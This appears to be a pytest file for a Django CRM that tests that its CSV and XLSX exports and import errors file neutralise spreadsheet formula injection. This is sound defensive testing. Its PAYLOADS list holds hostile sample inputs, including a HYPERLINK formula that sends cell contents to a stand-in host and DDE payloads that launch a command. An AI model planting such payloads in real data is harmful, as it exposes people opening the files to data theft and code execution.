"""Formula injection: no cell of any export, header cells included, starts the way a
spreadsheet program would run as a formula (=, +, -, @, a tab, a carriage return), except
plain numbers and phones, whose leading + or - a spreadsheet reads as a sign.

Every text a person can type reaches a file here: a contact's and a company's fields, tags,
a custom field's label and value, a deal's title (the report rows, the invoice's deal), a
company name (the invoice's client), a report's formula key (a header), and an uploaded
file's column names (the import's errors file). `test_every_export_is_covered` walks the URL
resolver, so an export added later fails until it is covered here.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from python_calamine import CalamineWorkbook

from contacts import services as contact_services
from contacts.importer.run import ErrorsWriter
from crm.spreadsheets import defuse
from crm.tenancy.context import tenant_scope
from deals import services as deal_services
from invoices import services as invoice_services
from reports import services as report_services
from tests.conftest import api_client, login
from tests.contacts.conftest import new_company, new_contact

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-1\n=1+1",
]
# What a spreadsheet reads as a number or a phone, and may start with a sign.
SIGNED_NUMBER = re.compile(r"[+\-][\d\s()+\-.,]*")


def dangerous(cell) -> bool:
    text = "" if cell is None else str(cell)
    if isinstance(cell, int | float):
        return False
    return bool(text) and text[0] in "=+-@\t\r" and not SIGNED_NUMBER.fullmatch(text)


def _csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx(data: bytes) -> list[list]:
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()


def _body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.parametrize("value", PAYLOADS)
def test_the_shared_rule_defuses_each_payload(value):
    assert not dangerous(defuse(value))
    assert defuse(value) == f"'{value}"


@pytest.mark.parametrize("value", ["+7 (916) 123-45-67", "-12.50", "+1 555 0100", "Ann", ""])
def test_numbers_phones_and_plain_text_stay_as_they_are(value):
    assert defuse(value) == value


@pytest.fixture
def planted(workspace, settings, tmp_path):
    """A payload in every text that an export writes."""
    settings.MEDIA_ROOT = tmp_path
    settings.REPORT_EXPORT_SYNC_MAX_ROWS = 10_000
    tenant, owner = workspace
    evil = iter(PAYLOADS * 4)
    with tenant_scope(tenant, owner.user):
        for object_type in ("contact", "company"):
            contact_services.custom_field_save(
                actor=owner, object_type=object_type, key="evil", label=next(evil),
                field_type="text",
            )  # fmt: skip
    company = new_company(owner, name=next(evil), industry=next(evil), custom={"evil": next(evil)})
    new_contact(owner, first_name=next(evil), last_name=next(evil), position=next(evil),
                tags=[next(evil)], custom={"evil": next(evil)}, company=company)  # fmt: skip
    with tenant_scope(tenant, owner.user):
        deal = deal_services.deal_create(
            actor=owner, data={"title": next(evil), "company": company.pk}
        )
        deal_services.line_item_add(actor=owner, deal=deal, name=next(evil), quantity=1,
                                    price=10, discount=0, tax_rate=0)  # fmt: skip
        invoice_services.invoice_create_from_deal(actor=owner, deal=deal)
        detail = report_services.report_create(
            actor=owner, name="Detail", report_type="deals",
            definition={"columns": ["title", "amount"]},
        )  # fmt: skip
        grouped = report_services.report_create(
            actor=owner, name="Grouped", report_type="deals",
            definition={"group_by": ["title"],
                        "formulas": [{"key": PAYLOADS[0][:40], "label": "x", "expr": "count"}]},
        )  # fmt: skip
    return tenant, owner, [detail, grouped]


def _check(rows, what) -> None:
    assert rows, what
    bad = [cell for row in rows for cell in row if dangerous(cell)]
    assert not bad, f"{what}: {bad}"
    seen = {str(cell) for row in rows for cell in row}
    assert any(cell.startswith("'") for cell in seen), f"{what}: no payload reached the file"


def test_every_export_writes_the_payloads_as_text(client, planted):
    tenant, owner, reports = planted
    login(client, owner)
    for kind in ("contacts", "companies"):
        for fmt, read in (("csv", _csv), ("xlsx", _xlsx)):
            response = client.get(f"/{kind}/export/", {"format": fmt})
            assert response.status_code == 200, (kind, fmt)
            _check(read(_body(response)), f"{kind} {fmt}")
    response = client.get("/invoices/export/")
    assert response.status_code == 200
    _check(_xlsx(_body(response)), "invoices xlsx")
    for report in reports:
        for fmt, read in (("csv", _csv), ("xlsx", _xlsx)):
            response = client.get(f"/reports/{report.pk}/export/", {"file_format": fmt})
            assert response.status_code == 200, (report.name, fmt, response.status_code)
            _check(read(_body(response)), f"report {report.name} {fmt}")
    api = api_client(owner)
    for report in reports:
        for fmt, read in (("csv", _csv), ("xlsx", _xlsx)):
            response = api.get(f"/api/v1/reports/{report.pk}/export/", {"file_format": fmt})
            assert response.status_code == 200, (report.name, fmt, response.status_code)
            _check(read(_body(response)), f"api report {report.name} {fmt}")
    # The same reports written in the background (the worker's file, which the pages' and
    # the API's download hand out as it is).
    from reports import export as report_export
    from reports import run as report_run

    for report in reports:
        with tenant_scope(tenant, owner.user):
            _outcome, compiler = report_run.compiler_for(
                report.report_type, report.spec, owner, tenant.time_zone
            )
            for fmt, read in (("csv", _csv), ("xlsx", _xlsx)):
                out = io.BytesIO()
                report_export.write_file(compiler, out, fmt)
                _check(read(out.getvalue()), f"background {report.name} {fmt}")


def test_the_import_errors_file_defuses_the_headers_and_the_reasons():
    writer = ErrorsWriter(["Name", PAYLOADS[0], PAYLOADS[3]])
    writer(["Ann", PAYLOADS[1], PAYLOADS[2]], [f"{PAYLOADS[0]}: is not an email address."])
    writer.text.flush()
    writer.raw.seek(0)
    rows = _csv(writer.raw.read())
    writer.close()
    _check(rows, "import errors")


# The exports this file covers, by URL name; any other route whose name speaks of an export
# or a download of rows must be added here (and to the test above).
# The downloads hand out a file written by what is tested above (the background export's,
# the ErrorsWriter's); the status routes write no rows.
COVERED = {
    "contact_export", "company_export", "invoice_export", "report_export",
    "report_export_download", "report_export_status", "contact_import_errors",
    "report-export", "report-export-list", "report-export-detail", "report-export-download",
    "import-errors",
}  # fmt: skip
EXPORTISH = re.compile(r"export|errors|csv|xlsx")


def _names(patterns):
    for entry in patterns:
        if isinstance(entry, URLResolver):
            yield from _names(entry.url_patterns)
        elif isinstance(entry, URLPattern) and entry.name:
            yield entry.name


def test_every_export_is_covered():
    found = {name for name in _names(get_resolver().url_patterns) if EXPORTISH.search(name)}
    assert found <= COVERED, f"exports not covered by this file: {sorted(found - COVERED)}"
